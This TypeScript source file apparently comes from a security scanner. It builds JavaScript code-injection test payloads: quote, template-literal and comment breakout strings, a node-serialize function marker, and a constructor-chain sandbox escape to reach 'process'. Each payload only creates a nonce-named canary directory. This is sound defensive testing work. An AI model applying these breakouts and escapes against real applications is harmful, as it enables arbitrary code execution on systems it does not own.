import { Script } from 'node:vm'
import { NONCE } from '../plan.ts'
import { quotingAfter } from './command-payloads.ts'

/** What makes the canary: with the globals of the process at hand, and from within a context that has objects of it. */
const EFFECTS = [
  `process.getBuiltinModule('fs').mkdirSync('${NONCE}')`,
  `this.constructor.constructor('return process')().getBuiltinModule('fs').mkdirSync('${NONCE}')`,
] as const

/** Ways out of what a text may stand in within code, with `@` for the effect. */
const WAYS_OUT = [
  '@',
  "'+@+'",
  '"+@+"',
  '`+@+`',
  '${@}',
  '${a,@}',
  ';@;//',
  "';@;//",
  '";@;//',
  '`;@;//',
  "');@;//",
  '");@;//',
  "'];@;//",
  '"];@;//',
  ');@;//',
  '];@;//',
  '};@;//',
  '});@;//',
  "'});@;//",
  '"});@;//',
  ')};@;//',
  ',@',
  '+@',
  '[@]',
  '.a,@',
  '*/@/*',
  '\n@\n//',
  '(){})(@);(function()',
  '(){})(@);(function(){',
  '(){})(@);(function',
  '=@',
  'a=@',
  'a){}@;//',
  '){@}//',
  '){@});(function(){',
  'a}@;{',
  "a',a:@,b:'",
  'a",a:@,b:"',
  '(function(){@})()',
  '_$$ND_FUNC$$_function(){@}()',
] as const

/** Where quotes are escaped and the sign that escapes them is not; the effect needs quotes of another kind then. */
const ESCAPED_EFFECT = `process.getBuiltinModule(\`fs\`).mkdirSync(\`${NONCE}\`)`
const ESCAPED_WAYS_OUT = ['+@//', ';@//', ',@)//'] as const

const TRIES_MAX = 10

/**
 * The payloads for a text that stands in this code, at the marker: those first with which the code still parses. A way
 * out of quotes is of no use elsewhere, and the parser knows.
 */
export const codePayloads = (code: string, marker: string): readonly string[] => {
  const fitting: string[] = []
  const others: string[] = []
  for (const way of WAYS_OUT)
    for (const effect of EFFECTS) {
      const payload = way.replace('@', () => effect)
      const changed = code.replaceAll(marker, () => payload.replaceAll(NONCE, 'n'))
      const isInert = parses(code.replaceAll(marker, 'a')) && isOnlyText(changed)
      if (parses(changed) && !isInert) fitting.push(payload)
      else others.push(payload)
    }
  const first = [...fitting.slice(0, 2 * TRIES_MAX), ...escapedOf(code, marker)]
  return [...first, ...others].slice(0, Math.max(TRIES_MAX, first.length))
}

const escapedOf = (code: string, marker: string): string[] => {
  const quoting = quotingAfter(code.slice(0, code.indexOf(marker)))
  if (quoting === 'none') return []
  const quote = quoting === 'single' ? "'" : '"'
  return ESCAPED_WAYS_OUT.map((way) => `\\${quote}${way.replace('@', () => ESCAPED_EFFECT)}`)
}

const parses = (code: string): boolean => {
  for (const text of [code, `(function(){${code}\n})`, `(${code}\n)`])
    try {
      return new Script(text) instanceof Script
    } catch {
      // The next reading may fit.
    }
  return false
}

const QUOTED = /^\s*\(?\s*(['"])(?:(?!\1)[^\\\n]|\\.)*\1\s*\)?;?\s*$/

/** Whether the code is one quoted text, in which nothing runs. */
const isOnlyText = (code: string): boolean => QUOTED.test(code)
